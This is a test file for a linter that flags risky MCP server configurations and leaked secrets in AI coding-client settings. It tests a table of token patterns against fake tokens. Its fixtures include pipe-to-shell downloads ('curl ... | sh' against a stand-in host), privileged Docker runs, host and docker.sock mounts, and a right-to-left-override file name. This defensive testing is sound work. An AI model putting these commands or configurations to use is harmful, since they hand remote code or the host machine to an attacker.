/**
 * The lint rules one by one: each with a server it must flag and one it
 * must not, the secret table entry by entry, references left alone,
 * secrets never printed, and the same findings in every client format.
 * Fake tokens are built by concatenation so that no secret scanner of
 * this repository mistakes this file for a leak.
 */

import assert from "node:assert/strict";
import {
  BUILTIN_CONFIG_KINDS,
  findConfigKind,
} from "../../src/configs/config_kinds.ts";
import { formatFinding, lintConfig } from "../../src/configs/lint_config.ts";
import { LINT_RULE_IDS, LINT_RULES } from "../../src/configs/lint_rules.ts";
import { lintServer } from "../../src/configs/lint_server.ts";
import {
  ENTROPY_MIN_BITS,
  findHighEntropy,
  findKnownSecret,
  SECRET_PATTERNS,
  shannonEntropy,
} from "../../src/configs/secret_patterns.ts";
import { serverView } from "../../src/configs/server_view.ts";

const alnum = (n: number) =>
  "aB3dE5fG7hJ9kLmN2pQ4rS6tU8vW0xYz1A2b3C4d5E6f7G8h9J0kLmNpQrStUvWxYz"
    .repeat(4).slice(0, n);

// Each entry of SECRET_PATTERNS: a string it must match, and a near miss.
const SECRET_EXAMPLES: Record<string, [positive: string, negative: string]> = {
  "a private key": [
    "-----BEGIN OPENSSH " + "PRIVATE KEY-----\nb3BlbnNzaC1rZXk=",
    "-----BEGIN PUBLIC KEY-----",
  ],
  "a GitHub token": ["ghp_" + alnum(36), "ghp_short"],
  "a GitHub fine-grained token": [
    "github_pat_" + alnum(22) + "_" + alnum(59),
    "github_pat_",
  ],
  "a GitLab token": ["glpat-" + alnum(20), "glpat-abc"],
  "an Anthropic API key": [
    "sk-ant-api03-" + alnum(40),
    "sk-ant-",
  ],
  "an OpenAI API key": ["sk-proj-" + alnum(40), "sk-1234"],
  "a Slack token": ["xoxb-" + "1234567890-" + alnum(20), "xoxb-1"],
  "an AWS access key id": ["AKIA" + "IOSFODNN7EXAMPLE", "AKIA1234"],
  "a Google API key": ["AIza" + alnum(35), "AIzaShort"],
  "an npm token": ["npm_" + alnum(36), "npm_run_build"],
  "a Hugging Face token": ["hf_" + alnum(34), "hf_hub"],
  "a Stripe key": ["sk_live_" + alnum(24), "sk_live_"],
  "a Linear API key": ["lin_api_" + alnum(40), "lin_api_key"],
  "a Notion token": ["ntn_" + alnum(46), "secret_manager"],
  "a Sentry token": ["sntrys_" + alnum(60), "sntrys_"],
  "a Supabase key": ["sbp_" + "0a".repeat(20), "sbp_project"],
  "a Figma token": ["figd_" + alnum(40), "@figma/figd_tools"],
  "a Tavily API key": ["tvly-dev-" + alnum(32), "tavily-mcp@0.2.1"],
  "a Perplexity API key": ["pplx-" + alnum(48), "pplx-mcp"],
  "a Groq API key": ["gsk_" + alnum(52), "gsk_${GROQ}"],
  "an xAI API key": ["xai-" + alnum(80), "xai-sdk@1.2.0"],
  "a DigitalOcean token": ["dop_v1_" + "0a".repeat(32), "dop_v1_token"],
  "an Atlassian API token": ["ATATT3" + alnum(180), "ATATT3xFf"],
  "a SendGrid API key": [
    "SG." + alnum(22) + "." + alnum(43),
    "SG.example.com",
  ],
  "a Twilio API key": ["SK" + "0a".repeat(16), "SKILL_" + "0".repeat(32)],
  "an Azure account key": [
    "DefaultEndpointsProtocol=https;AccountName=a;AccountKey=" + alnum(86) +
    "==",
    "AccountKey=${AZURE_KEY}",
  ],
  "a JSON Web Token": [
    "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0." + alnum(43),
    "eyJhbGciOiJIUzI1NiJ9",
  ],
  "a password in a URL": [
    "postgres://app:" + "s3cretPass" + "@db.example.com/app",
    "https://user@example.com/path",
  ],
  "a literal Bearer token": ["Bearer " + alnum(24), "Bearer ${env:TOKEN}"],
};

Deno.test("secret table: every entry has a positive and a negative example", () => {
  assert.deepEqual(
    SECRET_PATTERNS.map((entry) => entry.name).sort(),
    Object.keys(SECRET_EXAMPLES).sort(),
  );
});

for (const { name } of SECRET_PATTERNS) {
  Deno.test(`secret table: ${name}`, () => {
    const [positive, negative] = SECRET_EXAMPLES[name]!;
    const found = findKnownSecret(`value ${positive} end`);
    assert.equal(found?.name, name);
    // The redacted form is a prefix and "…", never the secret.
    assert.ok(found.redacted.endsWith("…"));
    assert.ok(found.redacted.length < 16, found.redacted);
    assert.ok(!found.redacted.includes(positive), found.redacted);
    assert.equal(findKnownSecret(negative), undefined, negative);
  });
}

Deno.test("secrets: references a client fills in are not secrets", () => {
  for (
    const value of [
      "${GITHUB_TOKEN}",
      "${env:GITHUB_TOKEN}",
      "${input:github-token}",
      "{env:GITHUB_TOKEN}",
      "{file:~/.secrets/github}",
      "${{ secrets.GITHUB_TOKEN }}",
      "Bearer ${env:API_KEY}",
      "Bearer {env:API_KEY}",
      "token $GITHUB_TOKEN",
    ]
  ) {
    assert.equal(findKnownSecret(value), undefined, value);
    assert.equal(findHighEntropy(value), undefined, value);
    assert.deepEqual(
      lintServer(serverView("s", {
        url: "https://example.com/mcp",
        headers: { Authorization: value },
        env: { TOKEN: value },
      })),
      [],
      value,
    );
  }
});

Deno.test("secrets: high entropy needs length, letters and digits, and the threshold", () => {
  const random = "q8Zr2LmX0vTn5KpW7sYc3HdJ";
  assert.ok(shannonEntropy(random) >= ENTROPY_MIN_BITS);
  assert.equal(findHighEntropy(random)?.redacted, "q8Zr…");
  assert.equal(findHighEntropy(random.slice(0, 19)), undefined); // too short
  assert.equal(findHighEntropy("abcdefghijklmnopqrstuvwxyz"), undefined); // no digit
  assert.equal(findHighEntropy("1234567890123456789012"), undefined); // no letter
  assert.equal(findHighEntropy("aaaaaaaaaa1111111111aaaa"), undefined); // low entropy
  // A hex digest stays under 4 bits per character.
  assert.equal(
    findHighEntropy(
      "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
    ),
    undefined,
  );
  assert.equal(
    findHighEntropy("123e4567-e89b-12d3-a456-426614174000"),
    undefined,
  );
});

// Every rule: a server it flags (with the field) and a close one it does not.
const RULE_CASES: {
  rule: string;
  flagged: [entry: Record<string, unknown>, field: string][];
  clean: Record<string, unknown>[];
}[] = [
  {
    rule: "secret-literal",
    flagged: [
      [
        { command: "node", env: { GITHUB_TOKEN: "ghp_" + alnum(36) } },
        "env.GITHUB_TOKEN",
      ],
      [{
        url: "https://x.example/mcp",
        headers: { Authorization: "Bearer " + alnum(30) },
      }, "headers.Authorization"],
      [
        { command: "server", args: ["--token", "glpat-" + alnum(20)] },
        "args[1]",
      ],
      // A field the view does not model is scanned too.
      [{
        command: "server",
        options: { auth: { key: "sk-proj-" + alnum(30) } },
      }, "other.options.auth.key"],
      [{ url: "https://x.example/mcp?key=" + "AIza" + alnum(35) }, "url"],
    ],
    clean: [{ command: "node", env: { GITHUB_TOKEN: "${env:GITHUB_TOKEN}" } }],
  },
  {
    rule: "high-entropy-value",
    flagged: [[{
      command: "node",
      env: { API_KEY: "q8Zr2LmX0vTn5KpW7sYc3HdJ" },
    }, "env.API_KEY"]],
    clean: [{
      command: "node",
      env: { LOG_LEVEL: "debug", MODE: "production-eu-west-1" },
    }],
  },
  {
    rule: "unpinned-package",
    flagged: [
      [
        { command: "npx", args: ["-y", "@modelcontextprotocol/server-github"] },
        "args[1]",
      ],
      [{ command: "npx", args: ["-y", "server-x@latest"] }, "args[1]"],
      [{ command: "npx", args: ["server-x@^1.2.0"] }, "args[0]"],
      [{ command: "pnpm", args: ["dlx", "server-x"] }, "args[1]"],
      [{ command: "bunx", args: ["server-x"] }, "args[0]"],
      [
        { command: "npm", args: ["exec", "--yes", "--", "server-x"] },
        "args[3]",
      ],
      [{ command: "npx", args: ["--package", "server-x", "serve"] }, "args[1]"],
      [{ command: "uvx", args: ["mcp-server-fetch"] }, "args[0]"],
      [{ command: "uvx", args: ["mcp-server-fetch>=1.0"] }, "args[0]"],
      [
        {
          command: "uvx",
          args: ["--from", "mcp-server-git", "mcp-server-git"],
        },
        "args[1]",
      ],
      [{ command: "pipx", args: ["run", "mcp-server-time"] }, "args[1]"],
    ],
    clean: [
      {
        command: "npx",
        args: ["-y", "@modelcontextprotocol/server-github@2025.4.8"],
      },
      { command: "npx", args: ["--package", "server-x@1.0.0", "serve"] },
      { command: "uvx", args: ["mcp-server-fetch==2025.4.7"] },
      { command: "uvx", args: ["mcp-server-fetch@2025.4.7"] },
      { command: "pipx", args: ["run", "mcp-server-time==1.0.0"] },
      { command: "npx", args: ["./tools/server"] },
      { command: "node", args: ["server-x"] },
    ],
  },
  {
    rule: "unpinned-image",
    flagged: [
      [
        { command: "docker", args: ["run", "-i", "--rm", "mcp/github"] },
        "args[3]",
      ],
      [{
        command: "docker",
        args: ["run", "-i", "--rm", "-e", "X", "mcp/github:latest"],
      }, "args[5]"],
      [{ command: "podman", args: ["run", "ghcr.io/x/y:1.2"] }, "args[1]"],
    ],
    clean: [
      {
        command: "docker",
        args: ["run", "-i", "mcp/github:1.0@sha256:" + "a".repeat(64)],
      },
      { command: "docker", args: ["ps"] },
    ],
  },
  {
    rule: "shell-wrapper",
    flagged: [
      [{ command: "sh", args: ["-c", "node server.js"] }, "args[0]"],
      [{ command: "/bin/bash", args: ["-lc", "server"] }, "args[0]"],
      [{ command: "cmd", args: ["/c", "npx", "server-x@1.0.0"] }, "args[0]"],
      [{
        command: "powershell.exe",
        args: ["-NoProfile", "-Command", "server"],
      }, "args[1]"],
      [{ command: ["zsh", "-c", "server"] }, "args[0]"],
    ],
    clean: [{ command: "bash", args: ["./scripts/server.sh"] }, {
      command: "cmd",
      args: ["/?"],
    }],
  },
  {
    rule: "pipe-to-shell",
    flagged: [
      [{
        command: "sh",
        args: ["-c", "curl -fsSL https://x.example/i.sh | sh"],
      }, "args[1]"],
      [
        {
          command: "bash",
          args: ["-c", "wget -O- https://x.example/i | bash"],
        },
        "args[1]",
      ],
    ],
    clean: [{ command: "curl", args: ["https://x.example/data"] }],
  },
  {
    rule: "docker-privileged",
    flagged: [
      [{
        command: "docker",
        args: ["run", "--privileged", "img@sha256:" + "a".repeat(64)],
      }, "args[1]"],
      [{
        command: "docker",
        args: ["run", "--cap-add=ALL", "img@sha256:" + "a".repeat(64)],
      }, "args[1]"],
      [{
        command: "docker",
        args: ["run", "--network", "host", "img@sha256:" + "a".repeat(64)],
      }, "args[2]"],
    ],
    clean: [{
      command: "docker",
      args: [
        "run",
        "--cap-add",
        "NET_BIND_SERVICE",
        "--network",
        "bridge",
        "img@sha256:" + "a".repeat(64),
      ],
    }],
  },
  {
    rule: "docker-host-mount",
    flagged: [
      [{
        command: "docker",
        args: ["run", "-v", "/:/host", "img@sha256:" + "a".repeat(64)],
      }, "args[2]"],
      [{
        command: "docker",
        args: ["run", "-v", "~:/home", "img@sha256:" + "a".repeat(64)],
      }, "args[2]"],
      [{
        command: "docker",
        args: ["run", "--volume=$HOME:/h:ro", "img@sha256:" + "a".repeat(64)],
      }, "args[1]"],
      [{
        command: "docker",
        args: [
          "run",
          "--mount",
          "type=bind,source=/,target=/host",
          "img@sha256:" + "a".repeat(64),
        ],
      }, "args[2]"],
      [{
        command: "docker",
        args: [
          "run",
          "-v",
          "/var/run/docker.sock:/var/run/docker.sock",
          "img@sha256:" + "a".repeat(64),
        ],
      }, "args[2]"],
    ],
    clean: [{
      command: "docker",
      args: [
        "run",
        "-v",
        "${workspaceFolder}:/work:ro",
        "--mount",
        "type=volume,source=data,target=/data",
        "img@sha256:" + "a".repeat(64),
      ],
    }],
  },
  {
    rule: "insecure-http",
    flagged: [[{ url: "http://mcp.example.com/mcp" }, "url"], [{
      type: "sse",
      url: "HTTP://10.0.0.5:8080/sse",
    }, "url"]],
    clean: [
      { url: "https://mcp.example.com/mcp" },
      { url: "http://localhost:3000/mcp" },
      { url: "http://127.0.0.1:3000/mcp" },
      { url: "http://[::1]:3000/mcp" },
    ],
  },
  {
    rule: "command-outside-repo",
    flagged: [
      [{ command: "/usr/local/bin/server" }, "command"],
      [{ command: "~/bin/server" }, "command"],
      [{ command: "$HOME/bin/server" }, "command"],
      [{ command: "C:\\tools\\server.exe" }, "command"],
      [{ command: "../../elsewhere/server" }, "command"],
    ],
    clean: [{ command: "node" }, { command: "./tools/server" }, {
      command: "tools/../bin/server",
    }],
  },
];

Deno.test("lint rules: every rule has a case below and a documented fix", () => {
  assert.deepEqual(
    RULE_CASES.map((c) => c.rule).sort(),
    [...LINT_RULE_IDS].sort(),
  );
  for (const id of LINT_RULE_IDS) {
    const rule = LINT_RULES[id];
    assert.ok(rule.catches && rule.why && rule.fix, id);
  }
});

for (const { rule, flagged, clean } of RULE_CASES) {
  Deno.test(`lint rule ${rule}: flags what it must, and not its near misses`, () => {
    for (const [entry, field] of flagged) {
      const findings = lintServer(serverView("s", entry));
      const hit = findings.find((finding) => finding.rule === rule);
      assert.ok(
        hit,
        `${rule} misses ${JSON.stringify(entry)}: ${JSON.stringify(findings)}`,
      );
      assert.equal(hit.field, field, JSON.stringify(entry));
    }
    for (const entry of clean) {
      const findings = lintServer(serverView("s", entry));
      assert.deepEqual(
        findings.filter((finding) => finding.rule === rule),
        [],
        JSON.stringify(entry),
      );
    }
  });
}

Deno.test("lint: a secret never appears in a finding", async () => {
  const token = "ghp_" + alnum(36);
  const random = "q8Zr2LmX0vTn5KpW7sYc3HdJ";
  const kind = findConfigKind(".mcp.json", BUILTIN_CONFIG_KINDS)!;
  const text = JSON.stringify({
    mcpServers: { s: { command: "node", env: { A: token, B: random } } },
  });
  const findings = await lintConfig(
    ".mcp.json",
    new TextEncoder().encode(text),
    { kind },
  );
  assert.equal(findings.length, 2);
  for (const finding of findings) {
    const shown = `${formatFinding(finding)} ${JSON.stringify(finding)}`;
    assert.ok(!shown.includes(token) && !shown.includes(random), shown);
    assert.ok(!shown.includes(token.slice(4, 12)), shown);
  }
});

// One set of dangerous servers, in each client's spelling.
const FORMATS: [string, string][] = [
  [
    ".mcp.json",
    `{"mcpServers": {
  "gh": {"command": "npx", "args": ["-y", "server-github"], "env": {"GITHUB_TOKEN": "GHTOKEN"}},
  "web": {"type": "http", "url": "http://mcp.example.com/mcp"}
}}`,
  ],
  [
    "opencode.json",
    `{"mcp": {
  "gh": {"type": "local", "command": ["npx", "-y", "server-github"], "environment": {"GITHUB_TOKEN": "GHTOKEN"}},
  "web": {"type": "remote", "url": "http://mcp.example.com/mcp"}
}}`,
  ],
  [
    ".zed/settings.json",
    `{"context_servers": {
  "gh": {"command": {"path": "npx", "args": ["-y", "server-github"], "env": {"GITHUB_TOKEN": "GHTOKEN"}}},
  "web": {"url": "http://mcp.example.com/mcp"}
}}`,
  ],
  [
    ".codex/config.toml",
    `[mcp_servers.gh]
command = "npx"
args = ["-y", "server-github"]
env = { GITHUB_TOKEN = "GHTOKEN" }

[mcp_servers.web]
url = "http://mcp.example.com/mcp"
`,
  ],
  [
    ".continue/mcpServers/tools.yaml",
    `name: Tools
version: 0.0.1
schema: v1
mcpServers:
  - name: gh
    command: npx
    args: ["-y", "server-github"]
    env:
      GITHUB_TOKEN: GHTOKEN
  - name: web
    type: streamable-http
    url: http://mcp.example.com/mcp
`,
  ],
];

Deno.test("lint: every client format gives the same findings", async () => {
  const token = "ghp_" + alnum(36);
  const seen: string[] = [];
  for (const [path, text] of FORMATS) {
    const kind = findConfigKind(path, BUILTIN_CONFIG_KINDS);
    assert.ok(kind, path);
    const findings = await lintConfig(
      path,
      new TextEncoder().encode(text.replace("GHTOKEN", token)),
      { kind, block: new Set(["insecure-http"]) },
    );
    const summary = findings.map((f) =>
      `${f.server} ${f.rule} ${f.field} ${f.blocking}`
    ).join("\n");
    seen.push(summary);
    // Lines point at the value, in every format.
    for (const finding of findings) {
      const line = text.split("\n")[finding.line! - 1] ?? "";
      assert.ok(
        line.includes(
          finding.rule === "insecure-http"
            ? "http://"
            : finding.rule === "secret-literal"
            ? "GHTOKEN"
            : "server-github",
        ),
        `${path}: ${formatFinding(finding)}`,
      );
    }
  }
  assert.equal(
    seen[0],
    [
      "gh secret-literal env.GITHUB_TOKEN false",
      "gh unpinned-package args[1] false",
      "web insecure-http url true",
    ].join("\n"),
  );
  assert.deepEqual(seen, seen.map(() => seen[0]));
});

Deno.test("lint: a message that quotes a value shows no secret in it, nor invisible characters", () => {
  const password = "Hunter2" + alnum(12);
  const spec = `https://me:${password}@registry.example.com/pkg.tgz`;
  const findings = lintServer(
    serverView("s", { command: "npx", args: [spec] }),
  );
  assert.deepEqual(findings.map((f) => f.rule), [
    "secret-literal",
    "unpinned-package",
  ]);
  for (const finding of findings) {
    assert.ok(!finding.message.includes(password), finding.message);
  }
  const line = formatFinding({
    rule: "insecure-http",
    path: ".mcp.json",
    server: "docs\u202egnp.exe",
    field: "url",
    message: "connects over plain http://",
    fix: "use https://",
    blocking: false,
  });
  assert.ok(!line.includes("\u202e"), line);
  assert.match(line, /docs\\u\{202e\}gnp/);
});

Deno.test("lint: an image with a malformed digest is not said to have a tag", () => {
  const findings = lintServer(
    serverView("s", { command: "docker", args: ["run", "img@sha256:aaaa"] }),
  );
  assert.deepEqual(findings.map((f) => [f.rule, f.field]), [
    ["unpinned-image", "args[1]"],
  ]);
  assert.equal(
    findings[0]?.message,
    'runs the image "img@sha256:aaaa" whose digest is not sha256 and 64 hex digits (so it pins nothing)',
  );
});
